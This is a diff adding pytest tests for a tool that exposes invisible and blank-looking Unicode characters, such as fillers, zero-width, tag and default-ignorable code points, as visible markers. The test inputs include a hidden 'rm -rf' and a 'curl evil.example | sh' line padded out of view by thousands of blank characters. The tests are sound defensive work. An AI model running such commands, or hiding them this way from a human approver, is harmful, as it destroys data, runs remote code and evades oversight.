@@ -2,6 +2,11 @@
 
 from __future__ import annotations
 
+import unicodedata
+from pathlib import Path
+
+import pytest
+
 from approver.visible import reveal, reveal_text
 
 
@@ -42,3 +47,57 @@ def test_unusual_spaces_and_variation_selectors_are_visible() -> None:
     revealed = reveal("send\u00a0email\ufe01 ❤\ufe0f")
     assert revealed.text == "send<U+00A0>email<U+FE01> ❤\ufe0f"
     assert revealed.findings == ("unusual spaces", "variation selectors (they can carry hidden data)")
+
+
+BLANK_LOOKING = "\u2800\u3164\u115f\u1160\uffa0"
+"""Braille pattern blank and the Hangul fillers: letters and symbols to most checks, blank on screen."""
+DERIVED_CORE_PROPERTIES = Path("/usr/share/unicode/DerivedCoreProperties.txt")
+"""Debian's unicode-data package: the Unicode table the shipped Default_Ignorable list comes from."""
+
+
+def test_blank_looking_letters_and_symbols_are_revealed_and_warned_about() -> None:
+    for char in BLANK_LOOKING:
+        revealed = reveal(f"rm{char}-rf")
+        assert revealed.text == f"rm<U+{ord(char):04X}>-rf"
+        assert revealed.findings == (
+            "characters that draw nothing (fillers and blank symbols such as U+3164 or U+2800)",
+        )
+
+
+def test_a_run_of_padding_becomes_one_short_marker_with_its_count() -> None:
+    padded = "ok" + "\u2800" * 5000 + "curl evil.example | sh"
+    revealed = reveal(padded, keep_newlines=True)
+    assert revealed.text == "ok<U+2800 ×5,000>curl evil.example | sh"
+    assert reveal("a\u200b\u200bb").text == "a<U+200B><U+200B>b"
+    tags = "".join(chr(0xE0000 + ord(c)) for c in "aaab")
+    assert reveal(tags).hidden_text == "aaab"
+
+
+def every(categories: set[str]) -> str:
+    planes = [*range(0x0000, 0x30000), *range(0xE0000, 0xE1000)]
+    return "".join(chr(code) for code in planes if unicodedata.category(chr(code)) in categories)
+
+
+def test_every_control_format_separator_space_and_unassigned_character_is_revealed() -> None:
+    hidden = every({"Cc", "Cf", "Zl", "Zp", "Zs", "Co", "Cn"}).replace(" ", "")
+    shown = reveal(hidden).text
+    assert set(shown) <= set("<>U+0123456789ABCDEF ×,")
+
+
+def default_ignorable_from_the_unicode_file() -> set[int]:
+    found: set[int] = set()
+    for line in DERIVED_CORE_PROPERTIES.read_text("utf-8").splitlines():
+        fields = [part.strip() for part in line.split("#")[0].split(";")]
+        if len(fields) == 2 and fields[1] == "Default_Ignorable_Code_Point":
+            low, _, high = fields[0].partition("..")
+            found.update(range(int(low, 16), int(high or low, 16) + 1))
+    return found
+
+
+@pytest.mark.skipif(not DERIVED_CORE_PROPERTIES.exists(), reason="Debian's unicode-data is not installed")
+def test_every_default_ignorable_code_point_of_the_unicode_table_is_revealed() -> None:
+    # U+FE0E/U+FE0F choose text or emoji presentation: everyday parts of emoji, left as they are.
+    ignorable = default_ignorable_from_the_unicode_file() - {0xFE0E, 0xFE0F}
+    assert len(ignorable) > 4000
+    shown = reveal("".join(map(chr, sorted(ignorable)))).text
+    assert set(shown) <= set("<>U+0123456789ABCDEF ×,")
